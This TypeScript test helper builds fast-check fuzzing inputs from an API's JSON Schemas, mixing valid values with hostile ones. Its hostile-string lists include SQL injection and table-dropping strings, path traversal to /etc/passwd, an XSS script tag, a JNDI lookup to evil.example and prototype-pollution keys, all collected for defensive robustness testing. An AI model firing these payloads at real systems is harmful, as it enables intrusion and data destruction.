import fc from 'fast-check';

/** The part of JSON Schema that zod 4 writes into the portal's OpenAPI document. */
export interface JsonSchema {
  type?: string | string[];
  enum?: unknown[];
  const?: unknown;
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
}

/** Text that has broken servers elsewhere: SQL and LIKE syntax, paths, NUL, lone surrogates, odd numbers and dates. */
export const HOSTILE_STRINGS = [
  '',
  ' ',
  "' OR '1'='1' --",
  '"; DROP TABLE users; --',
  "x'); DELETE FROM sessions; --",
  '%',
  '_%_',
  '\\',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '..',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '__proto__',
  'constructor',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  '\u202e\ufeff',
  '👩‍👩‍👧‍👦',
  'e\u0301',
  'İß',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '9007199254740993',
  '0x10',
  'null',
  '[]',
  '{}',
  '2024-02-30',
  '0000-00-00',
  '9999-12-31',
  '2024-13-45',
  '-271821-04-19',
];

/** Already percent-encoded fragments of a URL that decode to nothing sensible (bad escapes, overlong UTF-8, NUL). */
export const HOSTILE_URL_FRAGMENTS = [
  '%',
  '%zz',
  '%ED%A0%80',
  '%C0%AE%C0%AE%2F',
  '%00',
  '..%2F..%2F',
  '%2e%2e',
  '%FF',
  '%E2%80%AE',
  '..',
];

const hugeString = fc
  .constantFrom(1_000, 20_000, 1_100_000)
  .chain((length) =>
    fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 4 }).map((s) => s.repeat(length / s.length)),
  );

/** A value of any type, shape or size: what a careless or malicious caller puts in a field. */
export const hostile: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 4, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: hugeString },
  { weight: 2, arbitrary: fc.oneof(fc.integer(), fc.double(), fc.constantFrom(0, -1, 2 ** 53, 1e308, -1e-308)) },
  { weight: 2, arbitrary: fc.oneof(fc.boolean(), fc.constant(null)) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
);

/**
 * How often a field is hostile rather than valid: never (calls meant to pass validation and reach
 * the database) or one time in five.
 */
export type Hostility = 0 | 1;

/**
 * Values the schema accepts (or nearly: a pattern's text need not be a real date), and often the
 * route's documented example, so that calls reach past validation into the database; with
 * hostility, fields inside are now and then hostile too.
 */
export function validArbitrary(schema: JsonSchema, example: unknown, hostility: Hostility): fc.Arbitrary<unknown> {
  const generated = bySchema(schema, example, hostility);
  return example === undefined ? generated : fc.oneof(generated, fc.constant(example));
}

/** A field's value: valid, or with hostility one time in five hostile. */
export function fieldArbitrary(schema: JsonSchema, example: unknown, hostility: Hostility): fc.Arbitrary<unknown> {
  const valid = validArbitrary(schema, example, hostility);
  return hostility ? fc.oneof({ weight: 4, arbitrary: valid }, { weight: 1, arbitrary: hostile }) : valid;
}

function bySchema(schema: JsonSchema, example: unknown, hostility: Hostility): fc.Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const choices = schema.anyOf ?? schema.oneOf;
  if (choices) return fc.oneof(...choices.map((choice) => validArbitrary(choice, example, hostility)));
  if (schema.allOf) return validArbitrary(Object.assign({}, ...schema.allOf) as JsonSchema, example, hostility);
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'string':
      return stringArbitrary(schema);
    case 'integer':
    case 'number': {
      const min = schema.minimum ?? schema.exclusiveMinimum ?? -1e9;
      const max = Math.min(schema.maximum ?? schema.exclusiveMaximum ?? 1e9, Number.MAX_SAFE_INTEGER);
      return type === 'integer'
        ? fc.integer({ min: Math.ceil(min), max: Math.floor(max) })
        : fc.double({ min, max, noNaN: true });
    }
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array': {
      const items = Array.isArray(example) && example.length ? fc.constantFrom(...(example as unknown[])) : undefined;
      const item = schema.items ? fieldArbitrary(schema.items, undefined, hostility) : hostile;
      return fc.array(items ? fc.oneof(item, items) : item, {
        minLength: schema.minItems ?? 0,
        maxLength: Math.min(schema.maxItems ?? 5, 5),
      });
    }
    case 'object':
      return objectArbitrary(schema, example, hostility);
    default:
      return hostile;
  }
}

function stringArbitrary(schema: JsonSchema): fc.Arbitrary<string> {
  if (schema.format === 'email') return fc.emailAddress();
  if (schema.format === 'uuid') return fc.uuid();
  if (schema.format === 'date' || schema.pattern === '^\\d{4}-\\d{2}-\\d{2}$') {
    // Real calendar days mostly, and text of the right form that is no day at all.
    const day = fc
      .date({ min: new Date('1900-01-01'), max: new Date('2100-12-31'), noInvalidDate: true })
      .map((d) => d.toISOString().slice(0, 10));
    return fc.oneof({ weight: 3, arbitrary: day }, { weight: 1, arbitrary: fc.stringMatching(/^\d{4}-\d{2}-\d{2}$/) });
  }
  const minLength = schema.minLength ?? 0;
  const maxLength = Math.min(schema.maxLength ?? 60, minLength + 200);
  const text = schema.pattern
    ? fc
        .stringMatching(new RegExp(schema.pattern))
        .filter((s) => s.length >= minLength && s.length <= (schema.maxLength ?? Infinity))
    : fc.string({ unit: 'grapheme', minLength, maxLength });
  return text;
}

/** Objects with their required fields and some optional ones; with hostility, now and then a field missing or one extra. */
function objectArbitrary(
  schema: JsonSchema,
  example: unknown,
  hostility: Hostility,
): fc.Arbitrary<Record<string, unknown>> {
  const examples = (example ?? {}) as Record<string, unknown>;
  const model = Object.fromEntries(
    Object.entries(schema.properties ?? {}).map(([name, field]) => [
      name,
      fieldArbitrary(field, examples[name], hostility),
    ]),
  );
  const complete = fc.record(model, { requiredKeys: schema.required ?? [] });
  if (!hostility) return complete;
  const partial = fc.record(model, { requiredKeys: [] });
  const extra = fc
    .tuple(complete, fc.constantFrom('__proto__', 'constructor', 'admin', 'id'), hostile)
    .map(([object, name, value]) => ({ ...object, [name]: value }));
  return fc.oneof(
    { weight: 6, arbitrary: complete },
    { weight: 1, arbitrary: partial },
    { weight: 1, arbitrary: extra },
  );
}
